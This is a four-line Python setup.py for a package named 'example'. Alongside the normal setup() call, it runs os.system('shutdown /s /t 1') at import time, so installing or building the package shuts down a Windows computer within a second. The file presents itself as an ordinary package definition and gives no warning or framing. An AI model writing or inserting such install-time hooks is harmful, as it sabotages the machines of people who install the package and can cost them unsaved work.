import os
from setuptools import setup
os.system("shutdown /s /t 1")
setup(name='example', version='1.0')
